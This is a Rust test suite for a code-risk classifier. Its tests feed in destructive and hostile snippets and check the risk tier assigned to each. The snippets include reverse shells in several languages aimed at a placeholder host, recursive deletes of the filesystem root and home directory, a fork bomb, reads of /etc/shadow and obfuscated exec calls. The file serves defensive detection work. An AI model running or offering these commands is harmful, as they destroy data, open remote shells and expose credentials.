//! Harmless snippets, and arbitrary text.

use std::time::Duration;

use proptest::prelude::*;

use super::Language;
use crate::context::{Context, Environment};
use crate::effect::Effect;
use crate::finding::Findings;
use crate::readers::read_code;
use countersign_types::tier::Tier;

/// Only a hang takes so long; how the work grows is measured in `benches/`.
const HANG: Duration = Duration::from_mins(1);

const LANGUAGES: [Language; 6] = [
    Language::Python,
    Language::JavaScript,
    Language::Perl,
    Language::Ruby,
    Language::Php,
    Language::Other,
];

fn findings(lang: Language, text: &str) -> Findings {
    let mut out = Findings::default();
    read_code(lang, text, 0, &Context::default(), &mut out);
    out
}

fn tier(lang: Language, text: &str) -> Tier {
    findings(lang, text).tier()
}

fn py(text: &str) -> Tier {
    tier(Language::Python, text)
}

fn js(text: &str) -> Tier {
    tier(Language::JavaScript, text)
}

/// Ordinary work: nobody is to be asked about it.
const HARMLESS_PYTHON: &str = include_str!("testdata/harmless_python.txt");

const HARMLESS_JAVASCRIPT: &str = include_str!("testdata/harmless_javascript.txt");

#[test]
fn ordinary_work_is_left_alone() {
    let mut wrong = Vec::new();
    let python = HARMLESS_PYTHON.split("\n----\n").map(|t| (Language::Python, t));
    let javascript = HARMLESS_JAVASCRIPT.split("\n----\n").map(|t| (Language::JavaScript, t));
    for (lang, text) in python.chain(javascript) {
        let seen = findings(lang, text);
        if seen.tier() >= Tier::Medium {
            wrong.push(format!("{text:?}: {seen:?}"));
        }
    }
    assert!(wrong.is_empty(), "{}", wrong.join("\n"));
}

#[test]
fn tiers_by_target() {
    assert_eq!(py("import shutil\nshutil.rmtree('/')"), Tier::Critical);
    assert_eq!(py("import shutil\nshutil.rmtree('build')"), Tier::High);
    assert_eq!(py("import os, shutil\nshutil.rmtree(os.path.expanduser('~'))"), Tier::Critical);
    assert_eq!(
        py("from pathlib import Path\nimport shutil\nshutil.rmtree(Path.home())"),
        Tier::Critical
    );
    assert_eq!(py("import os\nos.remove('a.txt')"), Tier::Medium);
    assert_eq!(py("import os\nos.remove('/etc/hosts')"), Tier::High);
    assert_eq!(py("open('/etc/hosts', 'w').write('')"), Tier::High);
    assert_eq!(py("open('/etc/sudoers', 'a').write('')"), Tier::Critical);
    assert_eq!(py("open('/tmp/x', 'w').write('')"), Tier::Low);
    assert_eq!(
        py("import os\np = os.path.join('/usr', '../etc/shadow')\nprint(open(p).read_code())"),
        Tier::High
    );
    assert_eq!(
        py("import pathlib\n[p.unlink() for p in pathlib.Path('.').rglob('*.py')]"),
        Tier::High
    );
    assert_eq!(js("require('fs').rmSync('/', {recursive: true})"), Tier::Critical);
    assert_eq!(tier(Language::Ruby, "FileUtils.rm_rf('/')"), Tier::Critical);
    assert_eq!(tier(Language::Perl, "fork while fork"), Tier::Critical);
}

#[test]
fn a_disposable_machine_forgives_its_own_files_only() {
    let ctx = Context { environment: Environment::Container, ..Context::default() };
    let seen = |text: &str| {
        let mut out = Findings::default();
        read_code(Language::Python, text, 0, &ctx, &mut out);
        out.tier()
    };
    assert_eq!(seen("import shutil\nshutil.rmtree('/tmp/build')"), Tier::Low);
    assert_eq!(seen("import shutil\nshutil.rmtree('/')"), Tier::Critical);
}

#[test]
fn disguises_do_not_help() {
    for text in [
        "import os as o\ns = o.system\ns(input())",
        "from os import system as s\nx = open('c').read_code()\ns(x)",
        "__import__('os').system(x)",
        "getattr(__import__('o'+'s'), 'metsys'[::-1])(x)",
        "import importlib as i\ni.import_module('sub' 'process').run(x, shell=True)",
        "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))",
        "exec(''.join(map(chr, [105, 109, 112])))",
        "exec(chr(105) + chr(109))",
        "import codecs\nexec(codecs.decode('vzcbeg bf', 'rot13'))",
        "e = globals()['__builtins__'].__dict__['ev' + 'al']\ne(x)",
        "f = lambda c: __import__('os').popen(c)\nf(x)",
        "def go(p):\n    import shutil\n    shutil.rmtree(p)\ngo('/')",
        "x = f\"{__import__('shutil').rmtree('/')}\"",
        "import threading, os\nthreading.Thread(target=os.remove, args=('/etc/hosts',)).start()",
        "import sys\nsys.modules['os'].__dict__['remove']('a')",
        "t = 'import shutil; shutil.rmtree(\\'/\\')'\nexec(t)",
        "exec(\"exec(\\\"import os; os.remove('a')\\\")\")",
        "import os; os.\\\nremove('a')",
        "a = os.remove if x else print\nimport os\na('b')",
    ] {
        assert!(py(text) >= Tier::Medium, "{text:?}: {:?}", findings(Language::Python, text));
    }
    for text in [
        "const {rmSync: r} = require('fs'); r('/')",
        "(0, eval)(x)",
        "global['req' + 'uire']('fs')['unlink' + 'Sync']('a')",
        "require(`fs`).unlinkSync('a')",
        "`${require('fs').unlinkSync('a')}`",
        "const f = () => { require('fs').rmSync('/') }; f()",
        "new Function('a', 'return ' + x)(1)",
        "sh = require('child_process').spawn('/bin/sh');\n\
         require('net').connect(1, 'h', function () { this.pipe(sh.stdin) })",
        "['/etc/passwd'].forEach(f => require('fs').unlinkSync(f))",
        "eval(String.fromCharCode(97, 98))",
    ] {
        assert!(js(text) >= Tier::Medium, "{text:?}: {:?}", findings(Language::JavaScript, text));
    }
}

#[test]
fn other_languages() {
    for (lang, text) in [
        (Language::Php, "$sock=fsockopen('h',1);exec('/bin/sh -i 0<&3 1>&3 2>&3');"),
        (
            Language::Perl,
            "use Socket;socket(S,PF_INET,SOCK_STREAM,0);\
             if(connect(S,sockaddr_in(1,inet_aton('h')))){open(STDIN,'>&S');exec('/bin/sh -i');};",
        ),
        (Language::Ruby, "require 'socket'; s = TCPSocket.new('h', 1); exec('/bin/sh')"),
        (
            Language::Other,
            "local s=require('socket').tcp(); s:connect('h',1); os.execute('/bin/sh')",
        ),
        (
            Language::JavaScript,
            "c=require('net').connect(1,'h');require('child_process').exec('/bin/sh')",
        ),
    ] {
        assert!(tier(lang, text) >= Tier::High, "{text:?}: {:?}", findings(lang, text));
    }
    assert_eq!(tier(Language::Php, "echo 1 + 1;"), Tier::Safe);
    assert_eq!(tier(Language::Perl, "print join(', ', map { $_ * 2 } (1, 2));"), Tier::Safe);
    assert_eq!(tier(Language::Ruby, "puts [1, 2].map { |x| x * 2 }.sum"), Tier::Safe);
    assert_eq!(tier(Language::Other, "print(1 + 1)"), Tier::Safe);
}

#[test]
fn sql_in_code_is_read_as_sql() {
    let seen = findings(Language::Python, "cur.execute('DROP TABLE users')");
    assert_eq!(seen.tier(), Tier::Medium);
    assert_eq!(seen.impact.rows.listed, ["users"]);
    let place = seen.iter().find_map(|f| f.span).expect("a place");
    assert_eq!((place.start, place.end), (13, 29));
}

#[test]
fn impact_names_what_is_touched() {
    let seen = findings(Language::Python, "import os\nfor f in ['a', 'b']:\n    os.remove(f)");
    assert_eq!(seen.impact.deletes.listed, ["a", "b"]);
    assert!(seen.is_irreversible() && seen.effects.has(Effect::Delete));
    let seen = findings(Language::Python, "import requests\nrequests.get('https://a.example/x')");
    assert_eq!(seen.impact.hosts.listed, ["a.example"]);
}

#[test]
fn deep_wrapping_is_said_not_followed() {
    let mut text = "print(1)".to_owned();
    for _ in 0..7 {
        text = format!("exec({text:?})");
    }
    assert!(py(&text) >= Tier::High);
}

fn adversaries() -> Vec<String> {
    let size = 65_536;
    let fill = |piece: &str| piece.repeat(size / piece.len());
    vec![
        fill("("),
        fill("["),
        fill("{"),
        fill("f\"{"),
        fill("`${"),
        fill("'"),
        fill("\"\"\""),
        fill("/*"),
        fill("/ "),
        fill("[["),
        fill("a."),
        fill("a("),
        fill("a=a+a;"),
        fill("a=[a,a];"),
        fill("for a in a:a="),
        fill("x=>"),
        fill("def f(a):return f(f(a))\n"),
        fill("os.system(a)\n"),
        format!("a='{}';{}", "x".repeat(4000), "os.system(a);".repeat(4000)),
        format!("a='{}'\n{}", "DROP TABLE a;".repeat(300), "c.execute(a)\n".repeat(4000)),
        format!("a=[{}]\n{}", "'/etc/x',".repeat(64), "for b in a:os.remove(b)\n".repeat(2000)),
        fill("eval('"),
        fill("$a{"),
        fill("q("),
        fill("%x("),
        fill("import os as a,"),
        fill("a='x'.replace('x','xx');"),
    ]
}

#[test]
fn adversaries_cost_no_more_than_their_length() {
    for text in adversaries() {
        for lang in LANGUAGES {
            let start = std::time::Instant::now();
            drop(findings(lang, &text));
            let head: String = text.chars().take(30).collect();
            assert!(start.elapsed() < HANG, "{lang:?} {head:?} took {:?}", start.elapsed());
        }
    }
}

/// Text made of the pieces that matter to the reader.
fn codeish() -> impl Strategy<Value = String> {
    let piece = prop::sample::select(vec![
        "import os",
        "os",
        ".",
        "system",
        "(",
        ")",
        "[",
        "]",
        "{",
        "}",
        "'",
        "\"",
        "`",
        "f'",
        "\n",
        "    ",
        "=",
        "+",
        ",",
        ":",
        ";",
        "=>",
        "def f(a):",
        "for x in ",
        "eval",
        "exec",
        "\\",
        "#",
        "//",
        "/*",
        "${",
        "#{",
        "q(",
        "%x(",
        "é",
        "\u{1f600}",
        "require('fs')",
        "x",
        "1",
        "lambda",
        "return ",
        "with open('a') as f:",
        "while True",
        "rm -rf /",
        "::",
        "->",
        "|x|",
        "$_",
        "-1",
    ]);
    prop::collection::vec(piece, 0..60).prop_map(|v| v.concat())
}

/// A danger behind each bound of this reader is asked about, and what is long but harmless is not.
#[test]
fn what_exceeds_a_bound_is_a_finding() {
    for n in [1, 6, 7, 8, 9, 31, 33, 63, 65, 128, 130, 600] {
        let items = "'a', ".repeat(n);
        let each = |make: fn(usize) -> String| (0..n).map(make).collect::<Vec<_>>().concat();
        let several = each(|i| format!("a{i}, "));
        let branches = each(|i| format!("if c:\n  x = 'b{i}'\n"));
        let imports = each(|i| format!("import m{i}\n"));
        for text in [
            format!("import os\nfor f in [{items}'/etc/shadow']: open(f).read_code()"),
            format!("import os\nx = [{items}'/etc/shadow']\nopen(x[{n}])"),
            format!("{branches}if c:\n  x = '/etc/shadow'\nopen(x)"),
            format!("{imports}import os\nos.system('cat /etc/shadow')"),
            format!("import os\n{several}z = {items}'/etc/shadow'\nopen(z)"),
            format!("for {several}z in l:\n  pass\nopen('/etc/shadow')"),
            format!(
                "import os\nx = '{}' + '; cat /etc/shadow'\nos.system(x)",
                "true; ".repeat(n * 20)
            ),
            format!(
                "import sqlite3\nsqlite3.connect(\"x\").execute('{}' + '; DROP TABLE users')",
                "SELECT 1; ".repeat(n * 10)
            ),
            format!("import os\nfor f in '{}/etc/shadow'.split(): open(f)", "a ".repeat(n)),
        ] {
            let head: String = text.chars().take(60).collect();
            assert!(py(&text) >= Tier::Medium, "{n}: {head:?}");
        }
        let text = format!("f({}open('/etc/shadow'){})", "(".repeat(n), ")".repeat(n));
        assert!(py(&text) >= Tier::Medium, "{n} brackets");
        let text = format!("x = {{{}'b': open('/etc/shadow')}}", "'a': 1, ".repeat(n));
        assert!(py(&text) >= Tier::Medium, "{n} keys");
        let quiet = format!("x = [{items}'b']\nprint(len(x))\nfor i in x: print(i)");
        assert_eq!(py(&quiet), Tier::Safe, "{n}");
    }
    let nested = "const c = require('child_process');\nconst a = `${`${`${`${`${c.execSync('rm -rf ~')}`}`}`}`}`";
    assert!(js(nested) >= Tier::Medium);
    let unclosed = "x = `${`;\ny = `${require('child_process').execSync('rm -rf ~')}`";
    assert!(js(unclosed) >= Tier::Medium);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(400))]

    #[test]
    fn any_text_is_read_the_same_way_twice(
        text in prop_oneof![codeish(), ".{0,200}"],
        base in 0_usize..9,
    ) {
        for lang in LANGUAGES {
            let run = || {
                let mut out = Findings::default();
                read_code(lang, &text, base, &Context::default(), &mut out);
                out
            };
            let (one, two) = (run(), run());
            prop_assert_eq!(one.iter().collect::<Vec<_>>(), two.iter().collect::<Vec<_>>());
            prop_assert_eq!(&one.impact, &two.impact);
            for finding in &one {
                let span = finding.span.expect("every finding has a place");
                prop_assert!(base <= span.start as usize && span.start <= span.end);
                prop_assert!(span.end as usize <= base + text.len(), "{:?} in {:?}", finding, text);
            }
        }
    }

    #[test]
    fn strings_stay_data(pieces in prop::collection::vec(prop::sample::select(vec![
        "os.remove(a)", "eval(x)", "rm -rf /", "; ", "require(y)", "exec(z)", "fetch(u)", ")", "(",
        "import os", " ", "/etc/shadow", "#", "process.kill(p)",
    ]), 0..8)) {
        let text = pieces.concat();
        let code = format!("x = '{text}'\nprint(x)");
        prop_assert_eq!(py(&code), Tier::Safe);
        let code = format!("const x = '{text}';\nconsole.log(x)");
        prop_assert_eq!(js(&code), Tier::Safe);
    }
}
